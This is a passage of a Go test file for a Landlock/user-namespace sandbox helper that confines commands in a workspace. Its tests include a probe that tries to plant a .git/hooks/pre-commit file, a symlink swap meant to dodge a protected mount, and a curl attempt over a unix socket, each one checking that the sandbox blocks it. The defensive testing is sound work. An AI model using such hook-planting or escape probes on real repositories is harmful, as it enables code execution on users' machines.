	if err := exec.Command("unshare", "-U", "true").Run(); err == nil {
		t.Fatal("user namespaces still work in the inner run")
	}
	w := newWorld(t)
	h := newHost(t, w, MechanismLandlock, false)
	if h.ns {
		t.Fatal("the helper claims namespaces where they are refused")
	}
	t.Log(h.Describe())
	if d := h.Describe(); !strings.Contains(d, "user namespaces are not available") || !strings.Contains(d, "cannot be created directly in the workspace") {
		t.Errorf("Describe does not say why the top is not writable: %s", d)
	}
	if _, _, code := sh(t, h, w.ws, "echo x > top.txt"); code == 0 {
		t.Error("created at the top of the workspace under Landlock alone")
	}
	if _, errs, code := sh(t, h, w.ws, "echo x > sub/f && cat sub/f"); code != 0 {
		t.Errorf("sub/ not writable: %s", errs)
	}
	sh(t, h, w.ws, "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
	noFile(t, filepath.Join(w.ws, ".git"))
}

// When the helper cannot bind a protected path (here one reached through a
// symlink swapped in after the layout was computed), it falls back to
// Landlock alone for that command: the top of the workspace takes no new
// entries, and stderr says so.
func TestLandlockMountFailureFallsBack(t *testing.T) {
	if enter.LandlockCheck(false) != nil {
		t.Skip("landlock is not usable here")
	}
	w := newWorld(t)
	h := newHost(t, w, MechanismLandlock, false)
	if !h.ns {
		t.Skipf("no user namespaces here: %v", h.nsErr)
	}
	if err := os.MkdirAll(filepath.Join(w.ws, "real"), 0o755); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(w.ws, "real", ".envrc"), "export A=1\n")
	if err := os.Symlink("real", filepath.Join(w.ws, "lnk")); err != nil {
		t.Fatal(err)
	}
	spec := enter.Spec{Writable: []string{w.ws}, ReadOnly: []string{filepath.Join(w.ws, ".git"), filepath.Join(w.ws, "lnk", ".envrc")}, Mounts: true}
	argv, err := enter.Argv(os.Args[0], spec, []string{"/bin/sh", "-c", "echo x > top.txt"})
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = w.ws
	cmd.SysProcAttr = &syscall.SysProcAttr{}
	enter.ProcAttr(cmd.SysProcAttr)
	out, err := cmd.CombinedOutput()
	if err == nil {
		t.Errorf("created at the top although a protection could not be mounted: %s", out)
	}
	if !strings.Contains(string(out), "it moved") || !strings.Contains(string(out), "cannot be created at the top") {
		t.Errorf("stderr does not say why: %s", out)
	}
	noFile(t, filepath.Join(w.ws, "top.txt"))
}

// requireNamespaces fails t when user namespaces work here but the
// Landlock helper of h does not use them.
func requireNamespaces(t *testing.T, h *Host) {
	t.Helper()
	if h.ns {
		return
	}
	if _, err := exec.Command("unshare", "-Urpf", "--mount-proc", "true").CombinedOutput(); err == nil {
		t.Fatalf("user namespaces work here but the Landlock helper does not use them: %v", h.nsErr)
	}
	t.Logf("landlock without namespaces: %v", h.nsErr)
}

// refusesUnixSocket fails t when a command in h reaches a unix socket
// listening at sock.
func refusesUnixSocket(t *testing.T, h *Host, dir, sock string) {
	t.Helper()
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	_, errs, code := sh(t, h, dir, "/usr/bin/curl -s -m 2 --unix-socket "+sock+" http://x/")
	if code == 0 {
		t.Errorf("curl over the unix socket succeeded: %s", errs)
	}
	select {
	case <-accepted:
		t.Errorf("the unix socket %s accepted a connection from the sandbox", sock)
	case <-time.After(200 * time.Millisecond):
	}
}
